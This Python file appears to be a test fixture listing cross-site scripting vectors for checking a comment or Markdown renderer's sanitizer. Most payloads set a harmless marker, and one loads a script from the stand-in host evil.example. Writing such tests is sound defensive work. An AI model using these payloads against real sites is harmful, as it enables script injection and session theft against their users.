"""Texts that would run in a reader's browser if anything let them."""

RUN = "window.ran=1"

_HTML = [
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href='javascript:{RUN}'>x</a>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<math><mtext></p><style><img src onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>", f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<base href=javascript:{RUN}//>", f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">", f"<link rel=import href=data:text/html,{RUN}>",
    f"<style>@import 'javascript:{RUN}';</style>", f"<div style=\"background:url(javascript:{RUN})\">", f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml <script>{RUN}</script>?>", f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<img/src='x'/onerror='{RUN}'>",
    f"<img src=\"x` `<script>{RUN}</script>\"` `>", f"<b id=main onclick={RUN}>x</b>", f"<x onpointerenter={RUN} style=position:fixed;inset:0>x",
    f"<reply-form><form><input name=body onfocus={RUN} autofocus></form></reply-form>", f"<live-thread data-stream='\"><script>{RUN}</script>'>",
    f"<text-expander keys='@'><textarea autofocus onfocus={RUN}></textarea></text-expander>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\<script>{RUN}\\</script>",
    f"<noembed><img title=\"</noembed><img src onerror={RUN}>\"></noembed>", f"<xmp><img title=\"</xmp><img src onerror={RUN}>\"></xmp>",
    f"<listing>&lt;img onerror=\"{RUN}\" src=1&gt;</listing>", f"<form id=x></form><button form=x formaction=javascript:{RUN}>x",
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"&#106;avascript:{RUN}", f"java&#x0A;script:{RUN}", f"java&Tab;script:{RUN}", f"&#x6A&#x61vascript:{RUN}",
    f"\\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"javascript:/*--></title></style></textarea></script>*/{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", f"data:image/svg+xml,<svg onload={RUN}>",
    f"https://e.org/\" onclick=\"{RUN}", f"https://e.org/' onclick='{RUN}", f"https://e.org/`onclick={RUN}", f"//e.org\" autofocus onfocus=\"{RUN}", f"https://e.org/?<script>{RUN}</script>",
    f"%6Aavascript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"jar:javascript:{RUN}", f"blob:{RUN}", f"filesystem:{RUN}", f"ｊavascript:{RUN}", f"javas\u00adcript:{RUN}", f"\u2028javascript:{RUN}",
]  # fmt: skip
_AROUND = [
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[![x]({})]({})", "[x](https://e.org \"{}\")", "| a |\n| - |\n| [x]({}) |", "> - [x]({})", "{}", "`{}`", "[{}](https://e.org)",
]  # fmt: skip
_MARKS = [
    f"```html\n<script>{RUN}</script>\n```", f"```\"><script>{RUN}</script>\nx\n```", f"`<script>{RUN}</script>`", f"    <script>{RUN}</script>",
    f"@ana-lima\" onclick=\"{RUN}", f"@ana-lima<script>{RUN}</script>", f"#1\" onclick=\"{RUN}", f"[@ana-lima](javascript:{RUN})", f"@<img src=x onerror={RUN}>", f"#<svg onload={RUN}>",
    f"# <script>{RUN}</script>", f"1. <img src=x onerror={RUN}>", f"~~<script>{RUN}</script>~~", f"**<script>**{RUN}</script>", f"<script>\n\n{RUN}\n\n</script>", f"a\u0000<script>{RUN}</script>",
    f"http://e.org/<script>{RUN}</script>", f"www.e.org/\"onclick={RUN}", f"a@e.org\"onclick={RUN}", f"&quot;onclick={RUN}", f"\ue000<script>{RUN}</script>\ue001",
]  # fmt: skip

VECTORS = [*_HTML, *_MARKS, *(around.replace("{}", address) for address in _ADDRESSES for around in _AROUND)]
